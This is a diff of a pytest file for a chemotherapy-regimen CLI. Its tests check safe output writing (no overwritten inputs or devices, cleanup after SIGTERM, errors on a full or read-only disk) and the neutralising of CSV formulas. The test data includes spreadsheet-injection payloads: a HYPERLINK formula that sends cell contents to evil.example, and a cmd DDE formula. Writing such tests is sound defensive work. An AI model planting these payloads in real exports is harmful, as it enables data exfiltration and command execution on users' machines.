@@ -1,30 +1,27 @@
-"""Outputs never destroy anything (issue 11.4): only regular files are replaced, no run writes over its own input
-or writes one file twice, SIGTERM leaves no temporary file, a full disk is one line, and no CSV cell a
-spreadsheet would run as a formula is written as one."""
+"""Outputs never destroy anything (issue 11.4): only regular files are replaced, no run writes one file twice or
+over its input, a stopped run leaves no temporary file, a full or read-only disk is one line, and every CSV cell a
+spreadsheet would run as a formula is neutralised (OWASP). Each test failed before its change."""
 
 from __future__ import annotations
 
-import errno
+import csv
 import os
 import signal
-import stat
 import subprocess
 import sys
-import tempfile
 import time
+from collections.abc import Iterator
 from pathlib import Path
 
+import numpy as np
 import pandas as pd
 import pytest
 from click.testing import CliRunner
 
 from regimen.cli import cli
-from regimen.export import io as io_mod
-from regimen.export.cells import safe_cell, safe_frame
-from regimen.export.io import OutputError, check_paths, write_atomic
 
 PATIENT = ["--weight", "70", "--bsa", "1.8", "--age", "45"]
-ROSTER = "patient_id,weight_kg,bsa_m2,age\nP0,70,1.8,45\nP1,70 mg,1.8,45\n"
+ROSTER = "patient_id,weight_kg,bsa_m2,age\nP1,70,1.8,45\nP2,abc,1.8,45\n"
 
 
 def invoke(*args: str) -> tuple[int, str]:
@@ -33,262 +30,148 @@ def invoke(*args: str) -> tuple[int, str]:
     return result.exit_code, result.stderr
 
 
-def one_line(stderr: str) -> str:
-    lines = stderr.strip().splitlines()
-    assert len(lines) == 1 and lines[0].startswith("Error: "), lines
-    return lines[0]
-
-
-def snapshot(folder: Path) -> dict[str, tuple[int, bytes | None]]:
-    return {
-        p.name: (p.lstat().st_mode, p.read_bytes() if p.is_file() and not p.is_symlink() else None)
-        for p in folder.iterdir()
-    }
-
-
-# ---- only regular files are replaced --------------------------------------------------------------------
-
-
-def special_files(tmp_path: Path) -> list[Path]:
+def test_a_fifo_or_a_device_is_never_replaced(tmp_path: Path) -> None:
     fifo = tmp_path / "pipe"
     os.mkfifo(fifo)
-    out = [fifo, tmp_path]
-    if os.geteuid() == 0:  # as root, '-o /dev/null' replaced the device: a device node of our own shows it
-        dev = tmp_path / "null-device"
-        os.mknod(dev, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
-        link = tmp_path / "link-to-device"
-        link.symlink_to(dev)
-        out += [dev, link]
-    return out
+    code, err = invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(fifo))
+    assert code == 1 and "is not a regular file" in err and fifo.is_fifo()
+    code, err = invoke("expand", "cenersen-arm3", *PATIENT, "-o", "/dev/null")
+    assert code == 1 and "/dev/null: it is not a regular file" in err
+    assert Path("/dev/null").is_char_device()
 
 
-def test_expand_refuses_to_replace_anything_but_a_regular_file(tmp_path: Path) -> None:
-    for target in special_files(tmp_path):
-        before = snapshot(tmp_path)
-        code, stderr = invoke("expand", "cenersen-arm3", *PATIENT, "--format", "csv", "-o", str(target))
-        assert code in (1, 2), stderr  # a folder is refused by the option's own check (usage, 2)
-        assert len(stderr.strip().splitlines()) == 1
-        assert snapshot(tmp_path) == before, target
-
-
-@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
-def test_a_device_is_refused_by_every_writer(tmp_path: Path) -> None:
-    dev = tmp_path / "dev.csv"
-    os.mknod(dev, 0o600 | stat.S_IFCHR, os.makedev(1, 3))
-    roster = tmp_path / "roster.csv"
-    roster.write_text(ROSTER)
-    before = snapshot(tmp_path)
-    for args in (
-        ["cohort", "cenersen-arm3", str(roster), "-o", str(dev)],
-        ["cohort", "cenersen-arm3", str(roster), "-o", str(tmp_path / "out.csv"), "--errors", str(dev)],
-        ["expand", "cenersen-arm3", *PATIENT, "--start", "2026-01-05", "--ics", str(dev)],
-        ["supply", "cenersen-arm3", str(roster), "--errors", str(dev)],
-    ):
-        code, stderr = invoke(*args)
-        assert code == 1 and "it is a device, which regimen never replaces" in one_line(stderr), args
-        assert stat.S_ISCHR(dev.lstat().st_mode)
-    assert {k: v for k, v in snapshot(tmp_path).items() if not k.startswith("out")} == before
-
-
-def test_a_symbolic_link_is_followed_and_kept(tmp_path: Path) -> None:
+def test_a_symbolic_link_to_a_file_writes_the_file_and_keeps_the_link(tmp_path: Path) -> None:
     real = tmp_path / "real.csv"
-    real.write_text("old\n")
-    link = tmp_path / "plan.csv"
+    real.write_text("old")
+    link = tmp_path / "link.csv"
     link.symlink_to(real)
-    write_atomic(link, "new\n")
-    assert link.is_symlink() and real.read_text() == "new\n"
-
-
-# ---- one file is one output, and never an input ---------------------------------------------------------
-
-
-def test_the_same_file_twice_in_one_run_is_refused_before_anything_is_written(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    roster = tmp_path / "roster.csv"
-    roster.write_text(ROSTER)
-    (tmp_path / "x.csv").write_text("keep\n")
-    monkeypatch.chdir(tmp_path)
-    cases = {
-        ("cohort", "cenersen-arm3", "roster.csv", "-o", "roster.csv"): "-o roster.csv is the ROSTER this run reads",
-        ("cohort", "cenersen-arm3", "roster.csv", "-o", "out.csv", "--errors", "roster.csv"): (
-            "--errors roster.csv is the ROSTER this run reads"
-        ),
-        ("cohort", "cenersen-arm3", "roster.csv", "-o", "x.csv", "--errors", "./x.csv"): (
-            "-o and --errors are the same file"
-        ),
-        ("expand", "cenersen-arm3", *PATIENT, "--start", "2026-01-05", "--ics", "x.csv", "-o", "x.csv"): (
-            "-o and --ics are the same file"
-        ),
-        ("supply", "cenersen-arm3", "roster.csv", "-o", "roster.csv"): "-o roster.csv is the ROSTER this run reads",
-        ("supply", "cenersen-arm3", "roster.csv", "--errors", "roster.csv"): "is the ROSTER this run reads",
-        ("expand", str(Path(__file__).parents[1] / "regimens" / "abvd.toml"), *PATIENT, "-o", "abvd.toml"): None,
-    }
-    for args, message in cases.items():
-        before = snapshot(tmp_path)
-        code, stderr = invoke(*args)
-        if message is None:  # a different file of the same name is not the input
-            assert code == 0, stderr
-            (tmp_path / "abvd.toml").unlink()
-            continue
-        assert code == 1 and message in one_line(stderr), (args, stderr)
-        assert snapshot(tmp_path) == before, args
-
-
-def test_a_default_errors_file_that_would_be_the_roster_is_refused(tmp_path: Path) -> None:
-    roster = tmp_path / "plan.errors.csv"
-    roster.write_text(ROSTER)
-    code, stderr = invoke("cohort", "cenersen-arm3", str(roster), "-o", str(tmp_path / "plan.csv"))
-    assert code == 1 and "--errors" in one_line(stderr) and "ROSTER" in stderr
-    assert roster.read_text() == ROSTER
-
-
-def test_check_paths_compares_files_not_names(tmp_path: Path) -> None:
-    a = tmp_path / "a.csv"
-    a.write_text("x")
-    (tmp_path / "b.csv").hardlink_to(a)
-    with pytest.raises(OutputError, match="are the same file"):
-        check_paths({"output": a, "errors": tmp_path / "b.csv"})
-    check_paths({"output": a, "errors": tmp_path / "c.csv"}, {"roster": "-"})
-
-
-def test_supply_leaves_an_errors_file_it_does_not_need_alone(tmp_path: Path) -> None:
-    roster = tmp_path / "roster.csv"
-    roster.write_text("patient_id,weight_kg,bsa_m2,age\nP0,70,1.8,45\n")
-    errors = tmp_path / "roster.errors.csv"
-    errors.write_text("an earlier cohort run's rejected rows\n")
-    code, stderr = invoke("supply", "cenersen-arm3", str(roster))
-    assert code == 0, stderr
-    assert errors.read_text() == "an earlier cohort run's rejected rows\n"
-
-
-# ---- a full disk, a read-only folder, SIGTERM --------------------------------------------------------------
+    assert invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(link))[0] == 0
+    assert link.is_symlink() and real.read_text().startswith("phase,cycle")
 
 
 @pytest.mark.parametrize(
-    ("where", "code", "text"),
-    [("fsync", errno.ENOSPC, "No space left on device"), ("mkstemp", errno.EROFS, "Read-only file system")],
+    ("args", "message"),
+    [
+        (["cohort", "cenersen-arm3", "{r}", "-o", "{r}"], "-o {r} is the same file as ROSTER"),
+        (["cohort", "cenersen-arm3", "{r}", "-o", "{d}/x.csv", "--errors", "{r}"], "--errors {r} is the same file"),
+        (["cohort", "cenersen-arm3", "{r}", "-o", "{d}/x.csv", "--errors", "{d}/x.csv"], "same file as -o"),
+        (["supply", "cenersen-arm3", "{r}", "-o", "{r}"], "-o {r} is the same file as ROSTER"),
+        (
+            ["expand", "cenersen-arm3", *PATIENT, "--start", "2026-01-05", "--ics", "{d}/p", "-o", "{d}/p"],
+            "--ics {d}/p is the same file as -o",
+        ),
+    ],
 )
-def test_a_full_disk_or_read_only_folder_is_one_line_and_no_file(
-    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, where: str, code: int, text: str
-) -> None:
-    def fail(*_: object, **__: object) -> None:
-        raise OSError(code, os.strerror(code))
-
-    monkeypatch.setattr(os if where == "fsync" else tempfile, where, fail)
-    out = tmp_path / "plan.csv"
-    exit_code, stderr = invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(out))
-    assert exit_code == 1
-    assert one_line(stderr) == f"Error: cannot write {out}: {text} (nothing was written there)"
-    assert list(tmp_path.iterdir()) == []
-
-
-def test_a_full_disk_during_a_cohort_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    roster = tmp_path / "roster.csv"
+def test_one_run_never_writes_a_file_twice_or_over_its_input(tmp_path: Path, args: list[str], message: str) -> None:
+    roster = tmp_path / "r.csv"
     roster.write_text(ROSTER)
+    fill = {"r": str(roster), "d": str(tmp_path)}
+    code, err = invoke(*(a.format(**fill) for a in args))
+    assert code == 1 and message.format(**fill) in err
+    assert roster.read_text() == ROSTER and not (tmp_path / "x.csv").exists() and not (tmp_path / "p").exists()
 
-    def full(*_: object, **__: object) -> None:
-        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
 
-    monkeypatch.setattr(os, "replace", full)
-    code, stderr = invoke("cohort", "cenersen-arm3", str(roster), "-o", str(tmp_path / "out.csv"))
-    assert code == 1 and "No space left on device" in one_line(stderr)
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["roster.csv"]
+def test_supply_leaves_an_existing_errors_file_alone_when_it_has_none_to_write(tmp_path: Path) -> None:
+    roster = tmp_path / "r.csv"
+    roster.write_text("patient_id,weight_kg,bsa_m2,age\nP1,70,1.8,45\n")
+    earlier = tmp_path / "r.errors.csv"
+    earlier.write_text("a colleague's file\n")
+    assert invoke("supply", "cenersen-arm3", str(roster))[0] == 0
+    assert earlier.read_text() == "a colleague's file\n"
+
+
+@pytest.fixture
+def big_roster(tmp_path: Path) -> Path:
+    n = 400_000
+    rng = np.random.default_rng(1)
+    path = tmp_path / "big.csv"
+    pd.DataFrame(
+        {
+            "patient_id": [f"P{i}" for i in range(n)],
+            "weight_kg": np.round(rng.normal(75, 10, n).clip(40, 150), 1),
+            "bsa_m2": np.round(rng.normal(1.9, 0.2, n).clip(1.2, 2.6), 2),
+            "age": rng.integers(18, 90, n),
+        }
+    ).to_csv(path, index=False)
+    return path
 
 
 @pytest.mark.slow
-def test_sigterm_removes_the_temporary_output(tmp_path: Path) -> None:
-    """A cohort of 200,000 patients stopped by SIGTERM while it writes: no hidden .tmp file stays."""
-    roster = tmp_path / "roster.csv"
-    roster.write_text(
-        "patient_id,weight_kg,bsa_m2,age\n" + "".join(f"P{i},{60 + i % 40},1.8,45\n" for i in range(200_000))
-    )
-    out = tmp_path / "out.csv"
+def test_a_run_stopped_by_sigterm_leaves_no_temporary_file(tmp_path: Path, big_roster: Path) -> None:
+    out = tmp_path / "out" / "plan.csv"
+    out.parent.mkdir()
     proc = subprocess.Popen(
-        [sys.executable, "-m", "regimen", "cohort", "cenersen-arm3", str(roster), "-o", str(out)],
-        stdout=subprocess.DEVNULL,
+        [sys.executable, "-m", "regimen", "cohort", "cenersen-arm3", str(big_roster), "-o", str(out)],
         stderr=subprocess.PIPE,
+        text=True,
     )
     deadline = time.monotonic() + 60
-    while not list(tmp_path.glob(".out.csv.*.tmp")):  # wait until it writes
-        assert proc.poll() is None and time.monotonic() < deadline, "the run ended before it wrote"
+    while not list(out.parent.glob(".plan.csv.*.tmp")) and time.monotonic() < deadline and proc.poll() is None:
         time.sleep(0.02)
+    assert proc.poll() is None, "the run ended before it could be stopped"
     proc.send_signal(signal.SIGTERM)
-    assert proc.wait(timeout=30) == -signal.SIGTERM
-    assert sorted(p.name for p in tmp_path.iterdir()) == ["roster.csv"]
+    _, err = proc.communicate(timeout=60)
+    assert proc.returncode == 128 + signal.SIGTERM, err
+    assert "Stopped (SIGTERM)" in err and "Traceback" not in err
+    assert list(out.parent.iterdir()) == []  # neither the output nor its temporary file
 
 
-def test_the_sigterm_handler_removes_what_is_tracked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    killed: list[int] = []
-    monkeypatch.setattr(os, "kill", lambda pid, sig: killed.append(sig))
-    monkeypatch.setattr(signal, "signal", lambda *a: None)
-    with io_mod.atomic_target(tmp_path / "x.csv") as tmp:
-        tmp.write_text("partial")
-        io_mod._on_sigterm(signal.SIGTERM, None)
-        assert not tmp.exists()
-        folder = io_mod.track(tmp_path / "parts.tmp")
-        folder.mkdir()
-        (folder / "part-0.parquet").write_text("x")
-        io_mod._on_sigterm(signal.SIGTERM, None)
-        assert not folder.exists()
-        tmp.write_text("complete")  # the run would have ended; here it goes on, to show the rename still works
-    assert killed == [signal.SIGTERM, signal.SIGTERM]
-    assert (tmp_path / "x.csv").read_text() == "complete"
+@pytest.fixture
+def small_disk(tmp_path: Path) -> Iterator[Path]:
+    """A real 64 KiB file system (tmpfs): root is needed to mount it, as CI has."""
+    if os.geteuid() != 0:
+        pytest.skip("mounting a small file system needs root")
+    where = tmp_path / "disk"
+    where.mkdir()
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(where)], check=True)
+    try:
+        yield where
+    finally:
+        subprocess.run(["umount", str(where)], check=True)
 
 
-# ---- spreadsheet formulas -------------------------------------------------------------------------------
-
-FORMULAS = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1", "＝1+1"]
-
-
-@pytest.mark.parametrize("text", FORMULAS)
-def test_a_cell_that_begins_like_a_formula_is_text(text: str) -> None:
-    assert safe_cell(text) == "'" + text
-
-
-@pytest.mark.parametrize("value", ["-5", "+1.5e3", "-0.25", "P1", "", "mg/m²", 5, None, "1 = 1"])
-def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
-    assert safe_cell(value) == value
+def test_a_full_disk_is_one_line_and_keeps_the_old_file(small_disk: Path, tmp_path: Path) -> None:
+    roster = tmp_path / "r.csv"
+    pd.DataFrame({"patient_id": [f"P{i}" for i in range(500)], "weight_kg": 70, "bsa_m2": 1.8, "age": 45}).to_csv(
+        roster, index=False
+    )
+    old = small_disk / "plan.csv"
+    old.write_text("yesterday's plan\n")
+    code, err = invoke("cohort", "cenersen-arm3", str(roster), "-o", str(old))
+    assert code == 1 and f"cannot write {old}: no space left on device" in err, err
+    assert old.read_text() == "yesterday's plan\n"
+    assert sorted(p.name for p in small_disk.iterdir()) == ["plan.csv"]
 
 
-def test_safe_frame_is_safe_cell_on_every_text_cell() -> None:
-    frame = pd.DataFrame({"a": [*FORMULAS, "-5", None], "n": range(8)})
-    out = safe_frame(frame)
-    assert list(out["a"]) == [safe_cell(v) for v in frame["a"]]
-    assert list(out["n"]) == list(range(8)) and frame["a"].iloc[0] == FORMULAS[0]  # the input is left as it was
+def test_a_read_only_folder_is_one_line(small_disk: Path) -> None:
+    subprocess.run(["mount", "-o", "remount,ro", str(small_disk)], check=True)
+    code, err = invoke("expand", "cenersen-arm3", *PATIENT, "-o", str(small_disk / "plan.csv"))
+    assert code == 1 and "read-only file system; write to another folder" in err, err
 
 
-def test_cohort_output_and_errors_file_neutralise_formulas(tmp_path: Path) -> None:
-    roster = tmp_path / "roster.csv"
-    pd.DataFrame(
-        {
-            "patient_id": ['=HYPERLINK("http://evil.example","click")', "+cmd|x", "@SUM(A1)", "-1"],
-            "weight_kg": ["70", "=1+1", "70", "70"],
-            "bsa_m2": ["1.8"] * 4,
-            "age": ["45"] * 4,
-        }
-    ).to_csv(roster, index=False)
-    code, _ = invoke("cohort", "cenersen-arm3", str(roster), "-o", str(tmp_path / "out.csv"))
-    assert code == 3
-    rows = pd.read_csv(tmp_path / "out.csv", dtype=str, keep_default_na=False)
-    assert set(rows["patient_id"]) == {'\'=HYPERLINK("http://evil.example","click")', "'@SUM(A1)", "-1"}
-    errors = pd.read_csv(tmp_path / "out.errors.csv", dtype=str, keep_default_na=False)
-    assert list(errors["patient_id"]) == ["'+cmd|x"]
-    for path in (tmp_path / "out.csv", tmp_path / "out.errors.csv"):
-        for line in path.read_text().splitlines():
-            for cell in line.split(","):
-                assert not cell.lstrip('"').startswith(("=", "+", "@")), (path, line)
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]
 
 
-def test_expand_and_supply_csv_neutralise_formulas(tmp_path: Path) -> None:
-    text = (Path(__file__).parents[1] / "regimens" / "cenersen-arm3.toml").read_text(encoding="utf-8")
-    hostile = tmp_path / "hostile.toml"
-    hostile.write_text(text.replace('drug = "cenersen"', 'drug = "=cenersen"', 1), encoding="utf-8")
-    result = CliRunner().invoke(cli, ["expand", str(hostile), *PATIENT, "--format", "csv"])
-    assert result.exit_code == 0, result.stderr
-    assert "'=cenersen" in result.stdout and ",=cenersen" not in result.stdout
-    roster = tmp_path / "roster.csv"
-    roster.write_text("patient_id,weight_kg,bsa_m2,age\nP0,70,1.8,45\n")
-    result = CliRunner().invoke(cli, ["supply", str(hostile), str(roster), "--format", "csv"])
-    assert result.exit_code == 0, result.stderr
-    assert "'=cenersen" in result.stdout and ",=cenersen" not in result.stdout
+def test_spreadsheet_formulas_in_every_csv_are_neutralised(tmp_path: Path) -> None:
+    roster = tmp_path / "r.csv"
+    with roster.open("w", newline="") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["patient_id", "weight_kg", "bsa_m2", "age"])
+        for i, pid in enumerate(FORMULAS):
+            writer.writerow([pid, "70" if i % 2 == 0 else "abc", "1.8", "45"])
+    out = tmp_path / "o.csv"
+    invoke("cohort", "cenersen-arm3", str(roster), "-o", str(out), "--allow-rejected")
+    ids = set(pd.read_csv(out, keep_default_na=False)["patient_id"])
+    errors = set(pd.read_csv(tmp_path / "o.errors.csv", keep_default_na=False)["patient_id"])
+    assert ids | errors == {"'" + f for f in FORMULAS}
+    # a regimen file's drug name reaches the plan's CSV and the supply CSV the same way
+    text = (Path(__file__).resolve().parents[1] / "regimens" / "cenersen-arm3.toml").read_text(encoding="utf-8")
+    hostile = tmp_path / "h.toml"
+    hostile.write_text(text.replace('drug = "idarubicin"', 'drug = "=idarubicin()"', 1), encoding="utf-8")
+    plan = CliRunner().invoke(cli, ["expand", str(hostile), *PATIENT, "--format", "csv"]).stdout
+    assert ",'=idarubicin()," in plan and ",=idarubicin()," not in plan
+    supply = CliRunner().invoke(cli, ["supply", str(hostile), str(roster), "--format", "csv"]).stdout
+    assert "'=idarubicin()" in supply and ",=idarubicin()" not in supply
+    # JSON keeps the text as it is: only spreadsheets run formulas
+    data = CliRunner().invoke(cli, ["expand", str(hostile), *PATIENT, "--format", "json"]).stdout
+    assert '"drug": "=idarubicin()"' in data
